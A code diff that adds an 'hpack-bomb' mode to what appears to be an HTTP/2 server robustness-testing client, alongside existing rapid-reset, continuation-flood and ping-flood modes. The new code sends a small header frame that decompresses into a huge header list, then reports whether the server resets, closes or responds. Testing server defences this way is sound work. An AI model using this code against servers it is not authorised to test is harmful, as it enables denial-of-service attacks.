@@ -238,6 +238,51 @@ def mode_header_flood(args):
     print("closed")
 
 
+def mode_hpack_bomb(args):
+    """One 4000-byte header entered into the HPACK dynamic table, then referenced --count times
+    (one byte each on the wire): the decoded list is huge, the frame tiny."""
+    sock = connect(args)
+    conn = h2conn(sock)
+    pump(sock, conn, lambda ev: any(isinstance(e, h2.events.SettingsAcknowledged) for e in ev), 3)
+    enc = hpack.Encoder()
+    block = enc.encode(base_headers(args) + [("x-bomb", "b" * 4000)] * args.count)
+    f = hyperframe.frame.HeadersFrame(1)
+    f.data = block
+    f.flags.add("END_HEADERS")
+    f.flags.add("END_STREAM")
+    sock.sendall(f.serialize())
+    # Raw frames: the h2 state machine never saw stream 1 and would reject the answer.
+    result = "none"
+    buf = b""
+    end = time.time() + 5
+    sock.settimeout(0.5)
+    while time.time() < end and result == "none":
+        try:
+            data = sock.recv(65536)
+        except socket.timeout:
+            continue
+        except (ssl.SSLError, OSError):
+            result = "closed"
+            break
+        if not data:
+            result = "closed"
+            break
+        buf += data
+        while len(buf) >= 9 and result == "none":
+            length = int.from_bytes(buf[0:3], "big")
+            if len(buf) < 9 + length:
+                break
+            ftype, sid = buf[3], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
+            if ftype == 3 and sid == 1:
+                result = f"reset={int.from_bytes(buf[9:13], 'big')}"
+            elif ftype == 1 and sid == 1:
+                result = "response"
+            elif ftype == 7:
+                result = f"goaway={int.from_bytes(buf[13:17], 'big')}"
+            buf = buf[9 + length:]
+    print(f"{result} wire={len(block)}")
+
+
 def mode_continuation_flood(args):
     sock = connect(args)
     conn = h2conn(sock)
@@ -397,7 +442,8 @@ def main():
     args = p.parse_args()
     modes = {"get": mode_get, "post": mode_post, "rapid-reset": mode_rapid_reset,
              "header-flood": mode_header_flood, "continuation-flood": mode_continuation_flood,
-             "ping-flood": mode_ping_flood, "many-streams": mode_many_streams, "slow-reader": mode_slow_reader, "idle": mode_idle}
+             "ping-flood": mode_ping_flood, "many-streams": mode_many_streams,
+             "hpack-bomb": mode_hpack_bomb, "slow-reader": mode_slow_reader, "idle": mode_idle}
     try:
         modes[args.mode](args)
     except (ssl.SSLError, ConnectionError, OSError) as e:
